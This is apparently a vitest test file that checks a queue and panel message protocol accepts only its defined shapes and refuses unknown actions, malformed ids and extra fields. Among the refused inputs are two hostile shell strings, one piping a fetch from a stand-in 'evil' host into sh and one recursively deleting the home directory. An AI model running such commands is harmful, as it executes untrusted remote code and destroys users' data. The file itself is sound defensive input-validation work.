/** The queue tab's messages and the panel's queue messages are untrusted: only the protocol's shapes pass, anything else is refused. */
import { describe, expect, it } from "vitest";
import { PANEL_PAGE } from "../../src/shared/protocols/panel";
import { QUEUE_PAGE } from "../../src/shared/protocols/queue";

describe("the queue's messages from its pages", () => {
  it("passes the protocol's own", () => {
    expect(QUEUE_PAGE.parse({ type: "queueTaskAction", taskId: "q3", action: "moveUp" })).toMatchObject({ ok: true });
    expect(QUEUE_PAGE.parse({ type: "queueControl", action: "land" })).toMatchObject({ ok: true });
    expect(QUEUE_PAGE.parse({ type: "queueReady", requestId: 1 })).toMatchObject({ ok: true, requestId: 1 });
    expect(PANEL_PAGE.parse({ type: "showQueue" })).toMatchObject({ ok: true });
    expect(PANEL_PAGE.parse({ type: "queueTasks" })).toMatchObject({ ok: true });
  });

  it.each([
    ["an unknown task action", { type: "queueTaskAction", taskId: "q1", action: "runSetup" }],
    ["a task action with no task", { type: "queueTaskAction", action: "cancel" }],
    ["a task id that is not text", { type: "queueTaskAction", taskId: 1, action: "cancel" }],
    ["a huge task id", { type: "queueTaskAction", taskId: "q".repeat(1000), action: "cancel" }],
    ["an unknown control", { type: "queueControl", action: "setSetupCommand" }],
    ["tasks smuggled into a control", { type: "queueControl", action: "add", tasks: ["!curl evil | sh"] }],
    ["a panel message on the queue tab", { type: "openClaude" }],
  ])("refuses %s", (_why, raw) => {
    expect(QUEUE_PAGE.parse(raw)).toMatchObject({ ok: false });
  });

  it("refuses a panel queue message carrying more than its name", () => {
    expect(PANEL_PAGE.parse({ type: "queueTasks", text: "!rm -rf ~" })).toMatchObject({ ok: false });
    expect(PANEL_PAGE.parse({ type: "showQueue", taskId: "q1" })).toMatchObject({ ok: false });
  });
});
